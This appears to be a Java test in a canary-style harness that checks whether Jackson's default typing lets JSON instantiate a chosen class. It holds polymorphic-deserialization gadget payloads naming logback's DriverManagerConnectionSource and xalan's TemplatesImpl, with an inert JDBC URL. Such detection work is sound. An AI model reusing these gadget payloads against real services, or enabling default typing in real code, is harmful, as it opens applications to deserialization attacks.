import com.fasterxml.jackson.databind.ObjectMapper;
import underpin.canary.Attempts;
import underpin.canary.Canary;
import underpin.canary.Demonstration;

/** A type in JSON names a data source (jackson-databind). */
public final class JacksonPolymorphicGadget implements Demonstration {
  @Override
  public void attempts(Attempts to) throws Exception {
    to.proof("in an array", c -> made(c, typed().readValue("[\"ch.qos.logback.core.db.DriverManagerConnectionSource\", {\"url\":\"jdbc:none:x\"}]", Object.class)));
    to.variant("as a value of a map", c -> made(c, ((java.util.Map<?, ?>) typed().readValue("[\"java.util.HashMap\",{\"a\":[\"ch.qos.logback.core.db.DriverManagerConnectionSource\", {}]}]", Object.class)).get("a")));
    to.variant("without properties", c -> made(c, typed().readValue("[\"ch.qos.logback.core.db.DriverManagerConnectionSource\", {}]", Object.class)));
    to.variant("in an array of values", c -> made(c, typed().readValue("[[\"ch.qos.logback.core.db.DriverManagerConnectionSource\", {}]]", Object[].class)[0]));
    to.control("values", c -> typed().readValue("[\"java.util.HashMap\",{\"a\":1}]", Object.class).toString());
    to.control("another refused class", c -> String.valueOf(typed().readValue("[\"org.apache.xalan.xsltc.trax.TemplatesImpl\", {}]", Object.class)));
    to.control("without types", c -> new ObjectMapper().readValue("{\"a\":[1,2]}", Object.class).toString());
    to.replay("values", (c, r) -> typed().readValue("[\"java.util.ArrayList\",[" + r.nextInt() + ",\"s" + r.nextInt(9) + "\"]]", Object.class).toString());
  }

  private static ObjectMapper typed() {
    return new ObjectMapper().enableDefaultTyping();
  }

  private static void made(Canary c, Object value) {
    c.triggeredIf(value != null && value.getClass().getName().contains("logback"), "the named class was made");
  }
}
